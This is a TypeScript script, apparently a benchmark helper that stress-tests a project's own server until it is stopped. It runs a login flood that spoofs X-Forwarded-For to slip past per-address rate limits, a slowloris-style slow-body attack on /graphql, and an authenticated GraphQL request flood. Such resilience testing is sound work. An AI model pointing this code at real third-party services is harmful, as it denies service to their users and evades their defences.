/** Somebody who wants the server to be slow, until SIGTERM: `{ kind, count, url, publicUrl, … }`. */
import { once } from 'node:events';
import { connect } from 'node:net';

export type Attack =
  | { kind: 'log-ins' | 'slow-bodies'; count: number }
  | { kind: 'reads'; count: number; token: string; body: string };

type Task = Attack & { url: string; publicUrl: string };

const task: Task = JSON.parse(process.argv[2] ?? '{}');
const DRIP_MS = 500;
const seen = new Map<number, number>();

/** From another address each time, so no limit per address ends the attack. */
const somewhere = () => Array.from({ length: 4 }, () => 1 + Math.floor(Math.random() * 250)).join('.');

async function openLogIn(): Promise<{ url: string; cookie: string }> {
  const query = new URLSearchParams({
    client_id: 'canola-web',
    response_type: 'code',
    scope: 'openid email',
    redirect_uri: `${task.publicUrl}/callback`,
    code_challenge: 'a'.repeat(43),
    code_challenge_method: 'S256',
  });
  const first = await fetch(new URL(`/oidc/auth?${query}`, task.url), { redirect: 'manual' });
  const cookie = first.headers
    .getSetCookie()
    .map((one) => one.split(';')[0])
    .join('; ');
  const { pathname } = new URL(first.headers.get('location') ?? '/', task.url);
  await first.arrayBuffer();
  return { url: new URL(`${pathname}/log-in`, task.url).href, cookie };
}

async function logInForever(): Promise<void> {
  const { url, cookie } = await openLogIn();
  await repeat(async () => {
    const body = new URLSearchParams({
      email: `${Math.random()}@farm.test`,
      password: 'not the password at all',
    });
    const headers = { cookie, origin: task.publicUrl, 'x-forwarded-for': somewhere() };
    return fetch(url, { method: 'POST', body, headers, redirect: 'manual' });
  });
}

function readForever(): Promise<void> {
  if (task.kind !== 'reads') throw new Error('Another attack.');
  const { token, body } = task;
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  return repeat(() => fetch(new URL('/graphql', task.url), { method: 'POST', headers, body }));
}

async function dripForever(): Promise<void> {
  const { hostname, port, host } = new URL(task.url);
  for (;;) {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => {});
    const head = `POST /graphql HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n`;
    socket.on('connect', () => socket.write(head));
    const drip = setInterval(() => socket.write(' '), DRIP_MS);
    socket.resume();
    await once(socket, 'close');
    clearInterval(drip);
  }
}

async function repeat(attempt: () => Promise<Response>): Promise<void> {
  for (;;)
    try {
      const response = await attempt();
      await response.arrayBuffer();
      seen.set(response.status, (seen.get(response.status) ?? 0) + 1);
    } catch {
      // A refused connection is a refusal too.
    }
}

const ATTACKS = { 'log-ins': logInForever, 'slow-bodies': dripForever, reads: readForever };
for (let count = 0; count < task.count; count += 1) void ATTACKS[task.kind]();
process.stdout.write(`ready ${task.url}\n`);
process.once('SIGTERM', () => {
  if (process.env.BENCH_VERBOSE) process.stderr.write(`${task.kind}: ${JSON.stringify([...seen])}\n`);
  process.exit();
});
